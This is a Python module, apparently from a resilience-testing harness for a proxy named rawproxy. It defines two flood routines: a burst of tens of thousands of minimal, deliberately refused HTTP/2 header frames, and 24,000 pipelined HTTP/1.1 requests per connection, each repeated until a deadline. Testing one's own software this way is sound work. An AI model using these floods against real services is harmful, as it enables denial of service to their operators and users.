"""Much work in few bytes, at once."""

import time

from rawproxy.protocol.http2 import frames

from .mounts import attack, connect, connect_h2, pour
from .stage import Target

GET = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n"
PAUSE = 0.2  # seconds between two bursts


@attack("h2-burst", "HTTP/2: 390 KB of requests of 12 bytes, again and again")
def burst(target: Target, end: float) -> None:
    while time.monotonic() < end:
        with connect_h2(target.tls) as sock:
            # :method, :scheme and :path by the static table; no host, so it is refused: 12 bytes.
            small = bytes((0x82, 0x87, 0x84))
            pour(sock, b"".join(frames.headers(n, small, True) for n in range(1, 65_001, 2)), end)
            time.sleep(PAUSE)


@attack("refusals", "24,000 pipelined requests that the proxy answers itself, again and again")
def refusals(target: Target, end: float) -> None:
    while time.monotonic() < end:
        with connect(target.local) as sock:
            pour(sock, GET % target.host * 24_000, end)
            time.sleep(PAUSE)
